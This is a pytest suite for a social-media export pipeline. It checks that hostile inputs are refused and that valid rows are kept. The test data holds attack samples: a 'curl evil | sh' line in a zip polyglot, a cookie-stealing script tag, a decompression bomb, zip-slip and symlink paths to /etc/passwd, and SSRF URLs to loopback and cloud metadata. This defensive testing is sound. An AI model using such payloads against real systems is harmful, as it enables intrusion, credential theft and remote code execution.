"""The hostile-input suite: each case is refused with an exact reason, and the valid rows are kept.

Every case goes through the real stage functions (readers, ingest, acquire_avatars) on a real
PostgreSQL; remote avatars are served by a real HTTP server on 127.0.0.1.
"""

from __future__ import annotations

import io
import json
import os
import stat
import zipfile

import pytest
import sqlalchemy as sa
from export_fixtures import (
    HASH_A,
    IO_USER_COLUMNS,
    image_bytes,
    io_users_rows,
    mastodon_accounts,
    personal_archive_members,
    write_personal_archive,
)
from fetch_server import LocalServer, png_bytes
from PIL import Image

from pipeline.config import FetchParams
from pipeline.core.db import ensure_schema, transaction
from pipeline.core.runs import start_run
from pipeline.images.acquire import acquire_avatars
from pipeline.images.fetch import SafeFetcher
from pipeline.ingest.load import ingest_export
from pipeline.ingest.readers import READERS, AccountRecord, Rejection


def audit_images(settings, run_key, export, fmt="auto", fetcher=None):
    ensure_schema(settings)
    start_run(settings, run_key, str(export), fmt)
    ingest = ingest_export(settings, run_key, export, fmt)
    acquired = acquire_avatars(settings, run_key, fetcher=fetcher)
    with transaction(settings) as conn:
        avatars = {r.account_key: (r.status, r.reason) for r in conn.execute(sa.text(
            "select account_key, status, reason from account_avatars where run_key = :k"), {"k": run_key})}
        quarantine = {(r.stage, r.locator): r.reason for r in conn.execute(sa.text(
            "select stage, locator, reason from quarantine where run_key = :k"), {"k": run_key})}
        kept = set(conn.execute(sa.text("select account_key from account_snapshots where run_key = :k"),
                                {"k": run_key}).scalars())
    return ingest, acquired, avatars, quarantine, kept


def jpeg(size=(64, 64), color=(20, 120, 220)) -> bytes:
    return image_bytes(color, "JPEG", size)


# --- images ----------------------------------------------------------------------------------

def png_bomb() -> bytes:
    buf = io.BytesIO()
    Image.new("1", (6000, 6000)).save(buf, "PNG")  # 36 Mpx in a few KB
    return buf.getvalue()


def zip_polyglot() -> bytes:
    payload = io.BytesIO()
    with zipfile.ZipFile(payload, "w") as zf:
        zf.writestr("run.sh", "curl evil | sh")
    return jpeg() + payload.getvalue()  # decodes as a JPEG, opens as a zip


def script_polyglot() -> bytes:
    return png_bytes()[:-12] + b"<script>alert(document.cookie)</script>" + png_bytes()[-12:]


def test_hostile_images_are_refused_and_good_ones_stored(settings, tmp_path):
    export = tmp_path / "export"
    (export / "img").mkdir(parents=True)
    files = {
        "good.jpg": jpeg(),
        "truncated.jpg": jpeg((256, 256))[: len(jpeg((256, 256))) // 2],
        "bomb.png": png_bomb(),
        "zip-polyglot.jpg": zip_polyglot(),
        "script-polyglot.png": script_polyglot(),
        "trailing.png": png_bytes() + b"MZ\x90\x00" * 64,
        "page.jpg": b"<html><body>not an image</body></html>",
        "good.png": png_bytes(),
    }
    for name, data in files.items():
        (export / "img" / name).write_bytes(data)
    rows = "".join(f"x,{i},img/{name}\n" for i, name in enumerate(files))
    (export / "manifest.csv").write_text("platform,account_id,avatar\n" + rows)
    ingest, acquired, avatars, quarantine, kept = audit_images(settings, "img", export)
    assert (ingest.accounts, acquired.stored, acquired.failed) == (8, 2, 6)
    assert avatars["x:0"] == ("stored", None) and avatars["x:7"] == ("stored", None)
    expected = {
        "x:1": "unreadable image: image file is truncated",
        "x:2": "6000x6000 pixels exceeds the 25000000-pixel limit (decompression bomb?)",
        "x:3": "polyglot: the file is also a zip archive; refused",
        "x:4": "polyglot: the file carries markup or script ('<script'); refused",
        "x:5": "polyglot: 256 bytes after the end of the PNG image; refused",
        "x:6": "unreadable image: not an image (type not recognised from its bytes)",
    }
    assert avatars.pop("x:1")[1].startswith(expected.pop("x:1"))  # Pillow appends the unread byte count
    for key, reason in expected.items():
        assert avatars[key] == ("failed", reason)
    assert {loc for stage, loc in quarantine if stage == "images"} == {f"line {i + 2} avatar" for i in range(1, 7)}
    assert kept == {f"x:{i}" for i in range(8)}  # a bad avatar never drops the account


# --- archives and folders --------------------------------------------------------------------

def _add_symlink(zf: zipfile.ZipFile, name: str, target: str) -> None:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    zf.writestr(info, target)


def test_zip_slip_absolute_and_symlink_members_are_quarantined_and_the_archive_still_read(settings, tmp_path):
    archive = tmp_path / "drop" / "twitter-archive.zip"
    write_personal_archive(archive, extra={"../../evil.js": b"pwn", "/etc/cron.d/x": b"pwn",
                                           "data/../../../up.txt": b"pwn"})
    with zipfile.ZipFile(archive, "a") as zf:
        _add_symlink(zf, "data/profile_media/link.jpg", "/etc/passwd")
    ingest, acquired, avatars, quarantine, kept = audit_images(settings, "zip", archive)
    assert kept == {"twitter:1234567890"} and ingest.posts == 2
    assert avatars["twitter:1234567890"] == ("stored", None)
    assert quarantine == {
        ("ingest", "member ../../evil.js"): "member name '../../evil.js' leaves the export (zip-slip); refused",
        ("ingest", "member /etc/cron.d/x"): "member name '/etc/cron.d/x' is an absolute path; refused",
        ("ingest", "member data/../../../up.txt"): "member name 'data/../../../up.txt' leaves the export (zip-slip); refused",
        ("ingest", "member data/profile_media/link.jpg"): "zip member 'data/profile_media/link.jpg' is a symlink; refused",
    }
    assert not (tmp_path / "evil.js").exists() and not (tmp_path / "up.txt").exists()  # nothing extracted


def test_zip_references_that_escape_are_refused(settings, tmp_path):
    export = tmp_path / "export"
    export.mkdir()
    (tmp_path / "outside.zip").write_bytes(b"")
    with zipfile.ZipFile(tmp_path / "outside.zip", "w") as zf:
        zf.writestr("a.jpg", jpeg())
    with zipfile.ZipFile(export / "media.zip", "w") as zf:
        zf.writestr("ok/a.jpg", jpeg())
        zf.writestr("../a.jpg", jpeg())
        zf.writestr("huge.jpg", b"\0" * (11 * 1024 * 1024))
    (export / "manifest.csv").write_text(
        "platform,account_id,avatar\n"
        "x,1,zip:media.zip!ok/a.jpg\nx,2,zip:../outside.zip!a.jpg\nx,3,zip:media.zip!../a.jpg\n"
        "x,4,zip:media.zip!huge.jpg\nx,5,zip:/etc/x.zip!a.jpg\nx,6,file:///etc/passwd\n")
    _, acquired, avatars, _, kept = audit_images(settings, "zref", export)
    assert kept == {f"x:{i}" for i in range(1, 7)}
    assert avatars == {
        "x:1": ("stored", None),
        "x:2": ("failed", "zip '../outside.zip' points outside the export folder; refused"),
        "x:3": ("failed", "member name '../a.jpg' leaves the export (zip-slip); refused"),
        "x:4": ("failed", "zip member 'huge.jpg' declares 11534336 bytes, over the 10485760-byte limit"),
        "x:5": ("failed", "zip '/etc/x.zip' points outside the export folder; refused"),
        "x:6": ("failed", "avatar reference 'file:///etc/passwd' is neither a path in the export nor an http(s) URL"),
    }


def test_symlinks_in_folders_never_leave_the_export(settings, tmp_path):
    export = tmp_path / "export"
    (export / "img").mkdir(parents=True)
    (tmp_path / "secret.png").write_bytes(png_bytes())
    (export / "img" / "real.png").write_bytes(png_bytes((1, 2, 3)))
    os.symlink(tmp_path / "secret.png", export / "img" / "link.png")
    os.symlink(export / "img" / "real.png", export / "img" / "inside.png")  # stays inside: allowed
    (export / "manifest.csv").write_text("platform,account_id,avatar\nx,1,img/link.png\nx,2,img/inside.png\n")
    _, _, avatars, _, _ = audit_images(settings, "links", export)
    assert avatars == {"x:1": ("failed", "avatar path 'img/link.png' points outside the export folder; refused"),
                       "x:2": ("stored", None)}


def test_bluesky_blob_symlinked_out_of_the_export_is_not_used(tmp_path):
    from export_fixtures import BSKY_CID, BSKY_DID_A, write_bluesky_export

    export = write_bluesky_export(tmp_path / "bsky")
    (tmp_path / "secret").write_bytes(png_bytes())
    (export / "blobs" / BSKY_CID).unlink()
    os.symlink(tmp_path / "secret", export / "blobs" / BSKY_CID)
    accounts = [i for i in READERS["bluesky"].read(export) if isinstance(i, AccountRecord)]
    assert accounts[0].avatar_ref == f"https://cdn.bsky.app/img/avatar/plain/{BSKY_DID_A}/{BSKY_CID}@jpeg"


# --- CSV ---------------------------------------------------------------------------------------

def _io_csv(rows: list[list[str]]) -> str:
    import csv

    buf = io.StringIO()
    writer = csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writerow(IO_USER_COLUMNS)
    writer.writerows(rows)
    return buf.getvalue()


def _io_row(userid: str, bio: str = "", followers: str = "10") -> list[str]:
    return [userid, userid, userid, "", bio, "", followers, "5", "2019-01-01", "es"]


def _read_io(tmp_path, data: bytes):
    path = tmp_path / "op_users_csv_hashed.csv"
    path.write_bytes(data)
    items = list(READERS["twitter_io"].read(path))
    return ([i for i in items if isinstance(i, AccountRecord)], [i for i in items if isinstance(i, Rejection)])


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "latin-1", "cp1252", "utf-8-sig"])
def test_io_users_csv_in_other_encodings_loses_nothing(tmp_path, encoding):
    bio = "Año de la Revolución, ¡sí!" + ("  “citado”" if encoding == "cp1252" else "")
    text = _io_csv([_io_row("a1", bio), _io_row("a2", "Habana\nCuba")])
    accounts, rejected = _read_io(tmp_path, text.encode(encoding))
    assert rejected == []
    assert [(a.account_id, a.bio) for a in accounts] == [("a1", bio), ("a2", "Habana\nCuba")]


def test_io_users_csv_hostile_rows(tmp_path):
    good = [_io_row("ok1", "uno\ndos"), _io_row("ok2")]
    text = _io_csv([good[0]])
    text += '"nul","nul","nul","","a\x00b","","1","1","2019-01-01","es"\n'
    text += '"big","big","big","","' + "A" * (10 * 1024 * 1024) + '","","1","1","2019-01-01","es"\n'
    text += '"extra","x","x","","bio" oops,"","1","1","2019-01-01","es","surplus"\n'
    text += '"noid"' + ',""' * 9 + "\n"
    text += '"","","","","","","1","1","2019-01-01","es"\n'
    text += '"date","d","d","","","","1","1","yesterday","es"\n'
    text += _io_csv([good[1]]).split("\n", 1)[1]
    text += '"open","o","o","","never closed,"","1","1","2019-01-01","es"\n'
    accounts, rejected = _read_io(tmp_path, text.encode("utf-8"))
    # a NUL in one field is removed there (issue 24): the record is kept
    assert [(a.account_id, a.bio) for a in accounts] == [("ok1", "uno\ndos"), ("nul", "ab"), ("noid", None),
                                                          ("ok2", None)]
    assert [(r.locator, r.reason) for r in rejected] == [
        ("line 5", "unreadable CSV: field larger than field limit (262144)"),
        ("line 6", "more cells than header columns (broken quoting?)"),
        ("line 8", "userid is missing"),
        ("line 9", "account_creation_date 'yesterday' is not a date (expected ISO 8601 or YYYY-MM-DD)"),
        ("line 11", "fewer cells than header columns (broken quoting?)"),
    ]
    assert all(len(r.excerpt) <= 500 for r in rejected)


# --- JSON --------------------------------------------------------------------------------------

def test_json_that_is_not_an_array_and_records_missing_ids(settings, tmp_path):
    export = tmp_path / "masto"
    export.mkdir()
    one = mastodon_accounts()[0]
    (export / "a_single.json").write_text(json.dumps(one, indent=2))  # one pretty-printed Account: read as one
    rows = mastodon_accounts() + [{**one, "id": None, "username": "noid", "acct": "noid@x.social"},
                                  {**one, "username": None, "acct": None}, "just a string"]
    (export / "b_accounts.json").write_text(json.dumps(rows, indent=1))
    ingest, _, _, quarantine, kept = audit_images(settings, "json", export, fmt="mastodon",
                                                  fetcher=SafeFetcher(FetchParams(retries=0)))
    assert kept == {"mastodon:ana@mastodon.social", "mastodon:bob@fosstodon.org"}
    ingest_rows = {k: v for k, v in quarantine.items() if k[0] == "ingest"}
    assert ingest_rows == {
        ("ingest", "record 1"): "duplicate account mastodon:ana@mastodon.social (first at a_single.json record 1)",
        ("ingest", "record 3"): "id is missing",
        ("ingest", "record 4"): "username is missing",
        ("ingest", "record 5"): "expected an Account object, got a JSON str",
    }


def test_truncated_json_array_keeps_the_records_before_the_damage(tmp_path):
    path = tmp_path / "accounts.json"
    text = json.dumps(mastodon_accounts())
    path.write_text(text[: text.index('"username": "bob"') + 5])
    items = list(READERS["mastodon"].read(path))
    assert [i.account_id for i in items if isinstance(i, AccountRecord)] == ["ana@mastodon.social"]
    assert [(r.locator, r.reason.split(":")[0]) for r in items if isinstance(r, Rejection)] == [("record 2", "not JSON")]


def test_bluesky_and_reddit_records_missing_ids(tmp_path):
    bsky = tmp_path / "bsky.jsonl"
    bsky.write_text("\n".join(json.dumps(r) for r in [
        {"value": {"$type": "app.bsky.actor.profile", "displayName": "no did"}},
        {"did": "did:plc:../../etc", "value": {"$type": "app.bsky.actor.profile"}},
        {"did": "did:plc:ewvi7nxzyoun6zhxrhs64oiz", "value": {"$type": "app.bsky.feed.post"}},
        {"did": "did:plc:ewvi7nxzyoun6zhxrhs64oiz", "value": {"$type": "app.bsky.actor.profile", "displayName": "ok"}},
    ]))
    items = list(READERS["bluesky"].read(bsky))
    assert [i.display_name for i in items if isinstance(i, AccountRecord)] == ["ok"]
    assert [(r.locator, r.reason) for r in items if isinstance(r, Rejection)] == [
        ("line 1", "record has no DID (neither 'did' nor an at:// 'uri')"),
        ("line 2", "'did:plc:../../etc' is not a did:plc or did:web identifier"),
        ("line 3", "app.bsky.feed.post record has no at:// uri"),
    ]
    reddit = tmp_path / "about.json"
    reddit.write_text(json.dumps([{"kind": "t2", "data": {"name": "x", "is_suspended": True}},
                                  {"kind": "t3", "data": {"id": "p"}}]))
    items = list(READERS["reddit"].read(reddit))
    assert [(r.locator, r.reason) for r in items] == [
        ("record 1", "id is missing (suspended accounts have no id)"),
        ("record 2", 'expected a Reddit account object ({"kind": "t2", "data": {...}}) or a Listing'),
    ]


# --- URLs ----------------------------------------------------------------------------------------

HOSTILE_URLS = {
    "loop4": ("http://127.0.0.1/a.png", "destination 127.0.0.1 is loopback; refused"),
    "loop6": ("http://[::1]/a.png", "destination ::1 is loopback; refused"),
    "meta": ("http://169.254.169.254/latest/meta-data/iam/", "destination 169.254.169.254 is link-local (cloud metadata range); refused"),
    "ten": ("http://10.20.30.40/a.png", "destination 10.20.30.40 is private (RFC 1918 or similar); refused"),
    "dec": ("http://2130706433/", "destination 127.0.0.1 (2130706433 = 127.0.0.1) is loopback; refused"),
    "hex": ("http://0x7f.1/", "destination 127.0.0.1 (0x7f.1 = 127.0.0.1) is loopback; refused"),
}


def test_avatar_urls_to_private_destinations_are_refused_in_production(settings, tmp_path):
    export = tmp_path / "export"
    export.mkdir()
    (export / "ok.jpg").write_bytes(jpeg())
    rows = "".join(f"x,{name},{url}\n" for name, (url, _) in HOSTILE_URLS.items())
    (export / "manifest.csv").write_text("platform,account_id,avatar\nx,good,ok.jpg\n" + rows)
    with LocalServer() as server:
        _, acquired, avatars, quarantine, kept = audit_images(settings, "urls", export)  # the production fetcher
        assert server.requests == []
    assert kept == {"x:good", *(f"x:{n}" for n in HOSTILE_URLS)}
    assert avatars.pop("x:good") == ("stored", None)
    assert avatars == {f"x:{n}": ("failed", f"fetch failed: {reason}") for n, (_, reason) in HOSTILE_URLS.items()}
    assert sum(stage == "images" for stage, _ in quarantine) == len(HOSTILE_URLS)
    assert acquired.fetched == 0


def test_public_looking_host_that_redirects_to_loopback(settings, tmp_path):
    async def public_name_to_test_server(host: str, port: int) -> list[str]:
        return ["127.0.0.1"]

    with LocalServer() as server:
        fetcher = SafeFetcher(FetchParams(backoff=0.01), resolver=public_name_to_test_server,
                              unsafe_allow_loopback_hops=1)  # test-only: the first hop may reach the test server
        export = tmp_path / "export"
        export.mkdir()
        (export / "manifest.csv").write_text(
            "platform,account_id,avatar\n"
            f"x,ok,{server.url('/img.png', host='cdn.example.com')}\n"
            f"x,redir,{server.url('/redirect-loopback', host='cdn.example.com')}\n"
            f"x,meta,{server.url('/redirect-metadata', host='cdn.example.com')}\n"
            f"x,busy,{server.url('/429-once', host='cdn.example.com')}\n")
        _, acquired, avatars, _, _ = audit_images(settings, "redir", export, fetcher=fetcher)
        requested = sorted(p for p, _ in server.requests)
    assert avatars == {
        "x:ok": ("stored", None),
        "x:busy": ("stored", None),  # 429 with Retry-After: 1, then served
        "x:redir": ("failed", "fetch failed: destination 127.0.0.1 is loopback; refused"),
        "x:meta": ("failed", "fetch failed: destination 169.254.169.254 is link-local (cloud metadata range); refused"),
    }
    assert acquired.fetched == 2 and acquired.distinct_images == 1
    assert requested == ["/429-once", "/429-once", "/img.png", "/redirect-loopback", "/redirect-metadata"]


def test_io_media_zip_with_unsafe_members(settings, tmp_path):
    from export_fixtures import write_io_export

    export = write_io_export(tmp_path / "io", avatar_url=None)
    with zipfile.ZipFile(export / "cuba_092020_profile_images.zip", "a") as zf:
        zf.writestr("../../" + io_users_rows()[2]["userid"] + ".jpg", jpeg())
    ingest, acquired, avatars, quarantine, kept = audit_images(settings, "iozip", export)
    assert len(kept) == 3 and acquired.stored == 2
    assert f"twitter:{io_users_rows()[2]['userid']}" not in avatars  # the unsafe member is never used
    assert quarantine == {("ingest", f"member ../../{io_users_rows()[2]['userid']}.jpg"):
                          f"member name '../../{io_users_rows()[2]['userid']}.jpg' leaves the export (zip-slip); refused"}
    assert avatars[f"twitter:{HASH_A}"] == ("stored", None)


def test_personal_archive_without_account_is_a_clear_error(settings, tmp_path):
    from pipeline.errors import UserError

    members = personal_archive_members()
    archive = tmp_path / "x.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("data/account.js", b"window.YTD.account.part0 = {\"not\": \"an array\"}")
        zf.writestr("data/profile.js", members["data/profile.js"])
    items = list(READERS["twitter_archive"].read(archive))
    assert [(r.locator, r.reason) for r in items] == [
        ("file", "expected a JSON array or JSON lines, got a JSON dict")]
    (tmp_path / "notzip.zip").write_bytes(b"PK\x03\x04 broken")
    with pytest.raises(UserError, match="could not detect the format"):
        audit_images(settings, "bad", tmp_path / "notzip.zip")
